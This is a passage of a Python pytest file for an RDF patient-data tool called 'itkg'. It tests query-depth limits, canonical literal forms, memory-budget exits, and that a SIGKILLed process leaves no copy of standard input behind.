    with pytest.raises(QueryError, match="nested too deeply"):  # the plain in-process gate
        gate_query(query.read_text(encoding="utf-8"))
    done = itkg("query", query, EXAMPLES, "--format", "csv")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("o0,o1,")  # the header; no patient has these properties


def test_the_bundled_ontology_holds_only_two_literals_the_store_rewrites() -> None:
    """The bundled ontology is not watched (docs/security.md, known limits): pin what that lets
    through, so that a new non-canonical literal in it is noticed here."""
    rewritten = [q for q in sparql._ontology_quads() if _changed(q)]
    assert sorted(q.object.value for q in rewritten) == ["38.0", "55.0"]
    assert {q.predicate.value for q in rewritten} == {"https://w3id.org/itkg/statisticValue"}


def test_the_form_watch_counts_every_occurrence_of_a_literal_it_has_seen() -> None:
    """FormWatch remembers its verdicts by literal term (issue 8, speed): a literal seen again,
    in the same batch or a later one, counts again; one the store keeps never counts."""
    from itkg.lexical import FormWatch

    subject = ox.NamedNode("urn:ex:s")
    xsd = "http://www.w3.org/2001/XMLSchema#"
    padded = ox.Quad(subject, subject, ox.Literal("01", datatype=ox.NamedNode(xsd + "integer")))
    trailing = ox.Quad(subject, subject, ox.Literal("1.50", datatype=ox.NamedNode(xsd + "decimal")))
    kept = ox.Quad(subject, subject, ox.Literal("2026-01-01", datatype=ox.NamedNode(xsd + "date")))
    watch = FormWatch()
    watch.observe([padded, kept, padded, trailing, kept])
    assert watch.changed == 3
    watch.observe([trailing, kept, padded])
    assert watch.changed == 5


def _changed(quad: ox.Quad) -> bool:
    from itkg.lexical import FormWatch

    watch = FormWatch()
    watch.observe([quad])
    return watch.changed > 0


# ---------------------------------------------------------------------------------------------
# Item 11: every command has a memory budget (--max-memory, max_memory=)
# ---------------------------------------------------------------------------------------------

def _population(path: Path, patients: int) -> Path:
    """An input whose parsed form needs a few hundred MB (each patient holds a planted name)."""
    with path.open("w", encoding="utf-8") as out:
        for i in range(patients):
            out.write(f'<https://e.org/p{i}> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <https://w3id.org/itkg/Patient> .\n'
                      f'<https://e.org/p{i}> '
                      f'<https://schema.org/name> "Zoe-Secret-{i} lives at a long address number {i}" .\n')
    return path


#: Patients in the input of each command below: enough that it needs clearly more than the 150 MB
#: budget (measured: every command still ends past a 200 MB budget at 100,000 patients, and the
#: forked workers past 150 MB from about 75,000). The queries are also run once with a budget that
#: fits, on the whole input, which costs in proportion to it (rdflib: 20 s at 150,000 patients):
#: they get 100,000; the others stop at the budget whatever the size, and keep 150,000.
BUDGET_PATIENTS = {"query": 100_000, "explain": 150_000, "eligibility": 150_000}


@pytest.mark.parametrize("command", [
    ["query", "{q}", "{data}", "--engine", "rdflib"],  # Python, in the query's child
    ["query", "{q}", "{data}"],  # Oxigraph's store (Rust) in the query's child
    ["explain", "https://e.org/p1", "{data}"],  # the triples in the command's own process
    ["eligibility", "{data}", "--engine", "rdflib"],  # rdflib's graph, in the command's process
    ["eligibility", "{data}", "--engine", "oxigraph"],  # Oxigraph's store (Rust), in the command's process
    ["eligibility", "{data}", "--workers", "2"],  # forked workers
], ids=["query-rdflib", "query-oxigraph", "explain", "eligibility-rdflib", "eligibility-oxigraph",
        "eligibility-workers"])
@pytest.mark.slow
def test_a_memory_budget_ends_the_command_cleanly(tmp_path: Path, command: list[str]) -> None:
    """Item 11: past --max-memory a command ends with exit 2 and one line that names no value,
    writes nothing and leaves no temporary file; with a budget that fits, the same command works
    (so it is the budget that stopped it)."""
    data = _population(tmp_path / "population.nt", BUDGET_PATIENTS[command[0]])
    query = tmp_path / "count.rq"
    query.write_text("SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }", encoding="utf-8")
    out = tmp_path / "out" / "result.txt"
    out.parent.mkdir()
    args = [a.format(q=query, data=data) for a in command]
    done = run_itkg(*args, "-o", out, "--max-memory", "150M", env={"TMPDIR": str(tmp_path / "out")})
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines() == [
        "itkg: error: the input needs more memory than the budget allows (150 MB); raise "
        "--max-memory (max_memory=), or give the input in smaller files"]
    assert list(out.parent.iterdir()) == []
    if command[0] == "query":  # control, once per engine: a budget that fits
        fits = run_itkg(*args, "-o", out, "--max-memory", "3G")
        assert fits.returncode == 0, fits.stderr
        assert out.exists()


@pytest.mark.slow
def test_the_api_takes_a_memory_budget(tmp_path: Path) -> None:
    """``max_memory=`` (in a fresh interpreter: the budget applies to the whole process)."""
    data = _population(tmp_path / "population.nt", 150_000)
    code = ("import sys, itkg\n"
            "from itkg.errors import MemoryBudgetError\n"
            "try:\n"
            f"    itkg.eligibility({str(data)!r}, engine='rdflib', max_memory=150 * 2**20)\n"
            "except MemoryBudgetError as error:\n"
            "    print(type(error).__name__, error.budget)\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert done.stdout.split() == ["MemoryBudgetError", str(150 * 2**20)], done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("engine", ["oxigraph", "rdflib"])
def test_reading_ends_cleanly_at_the_budget_when_the_watchdog_is_late(tmp_path: Path, engine: str) -> None:
    """Regression: on a busy machine the watchdog thread may not run before Rust code (pyoxigraph's
    parser and store) meets the hard limit, and the process aborted with "memory allocation of N
    bytes failed" (exit -6) instead of the budget's message. The reader now tests the budget
    itself every megabyte it reads; here the watchdog never looks, and the budget still ends
    the call cleanly."""
    data = _population(tmp_path / "population.nt", BUDGET_PATIENTS["eligibility"])
    code = ("import sys, itkg, itkg.processes\n"
            "from itkg.errors import MemoryBudgetError\n"
            "itkg.processes._WATCH_INTERVAL_S = 3600.0  # the watchdog never looks in time\n"
            "try:\n"
            f"    itkg.eligibility({str(data)!r}, engine={engine!r}, max_memory=150 * 2**20)\n"
            "except MemoryBudgetError as error:\n"
            "    print(type(error).__name__, error.budget)\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["MemoryBudgetError", str(150 * 2**20)], done.stderr


# ---------------------------------------------------------------------------------------------
# Standard input: the copy does not outlive the process, SIGKILL included
# ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("moment", ["while-reading", "after-reading"])
def test_sigkill_leaves_no_copy_of_standard_input(tmp_path: Path, moment: str) -> None:
    """``itkg eligibility -`` copies standard input to a file for the parsers. Killed with
    SIGKILL (no clean-up can run), it used to leave that copy, patient data, in TMPDIR. Now the
    copy has no name (O_TMPFILE): what may be left is an empty folder or a link to nothing."""
    import signal
    import time

    tmp = tmp_path / "tmp"
    tmp.mkdir()
    secret = "Zoe-Secret-Stdin"
    head = EXAMPLES.read_text(encoding="utf-8") + f'<https://e.org/p> <https://schema.org/name> "{secret}" .\n'
    child = subprocess.Popen([*itkg_command(), "eligibility", "--engine", "rdflib", "-"],
                             stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             env={**os.environ, "TMPDIR": str(tmp)})
    assert child.stdin is not None
    child.stdin.write(head.encode("utf-8"))
    child.stdin.flush()
    if moment == "after-reading":  # a large rest: the copy is done, the parser is at work
        child.stdin.write(b"".join(b'<https://e.org/q%d> <https://schema.org/name> "n%d" .\n' % (i, i)
                                   for i in range(300_000)))
        child.stdin.close()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:  # until the command has made its folder (and its copy)
        folders = list(tmp.glob("itkg-stdin-*"))
        if folders and (moment == "while-reading" or any(f.iterdir() for f in folders)):
            break
        time.sleep(0.05)
    assert folders, "the command never started copying standard input"
    time.sleep(0.3)
    child.send_signal(signal.SIGKILL)
    child.wait(timeout=60)
    if child.stdin and not child.stdin.closed:
        with contextlib.suppress(BrokenPipeError):
            child.stdin.close()
    left = [p for p in tmp.rglob("*") if p.is_file()]  # is_file follows a link: to nothing, False
    assert left == []
    assert not any(secret.encode() in p.read_bytes() for p in tmp.rglob("*") if p.is_file() and not p.is_symlink())


@pytest.mark.server
def test_itkg_load_sends_literals_as_written_and_says_a_server_may_not_keep_them(tmp_path: Path) -> None:
    """The upload path: ``itkg load`` sends every literal as written and notes how many a server
    that stores values will rewrite. Oxigraph's server is such a server (documented in
    docs/endpoint.md; itkg does not repair a server's answers)."""
    import json

    import _oxigraph_server as module
    if module.oxigraph_executable() is None:
        pytest.skip("the oxigraph server binary is not installed (pip install oxigraph)")
    data = _forms_file(tmp_path)
    query = _query_file(tmp_path)
    with module.OxigraphServer() as server:
        done = itkg("load", data, "--endpoint", server.query_url, "--store-url", server.store_url)
        assert done.returncode == 0, done.stderr
        assert f"itkg: note: {len(_FORMS) - 1} typed literal(s) are not in canonical form" in done.stderr
        answer = itkg("query", query, "--endpoint", server.query_url, "--format", "json")
        assert answer.returncode == 0, answer.stderr
        got = {b["n"]["value"] for b in json.loads(answer.stdout)["results"]["bindings"]}
        assert "12345" in got and "0012345" not in got  # the server's canonical form


@pytest.mark.parametrize(("suffix", "subject"), [
    (".nt", "<https://e.org/r>"), (".nt", "_:r"),
    (".ttl", "<https://e.org/r>"), (".ttl", "_:r"), (".ttl", "[]"),  # N-Triples has no unlabelled node
])
def test_the_literal_watch_sees_every_kept_literal_and_no_set_aside_one(tmp_path: Path, subject: str,
                                                                        suffix: str) -> None:
    """The store's literal-form watch is handed the literals the reader keeps (issue 8, speed:
    the checker collects them, instead of the watch reading every statement again), whichever
    node carries them: an IRI, a labelled node, a node the reader renames; a statement set aside
    (about an ``itkg:`` term) is not stored, and its literal does not count."""
    from itkg.lexical import LexicalFormError

    literal = '"007"^^<http://www.w3.org/2001/XMLSchema#integer>'
    kept = tmp_path / f"kept{suffix}"
    kept.write_text(f"{subject} <https://e.org/n> {literal} .\n", encoding="utf-8")
    with pytest.raises(LexicalFormError):
        sparql.load_for_query(kept)
    aside = tmp_path / f"aside{suffix}"
    aside.write_text(f"<https://w3id.org/itkg/Patient> <https://e.org/n> {literal} .\n"
                     f"{subject} <https://e.org/n> \"7\"^^<http://www.w3.org/2001/XMLSchema#integer> .\n",
                     encoding="utf-8")
    loaded = sparql.load_for_query(aside)
    assert loaded.sources[0].schema_set_aside == 1
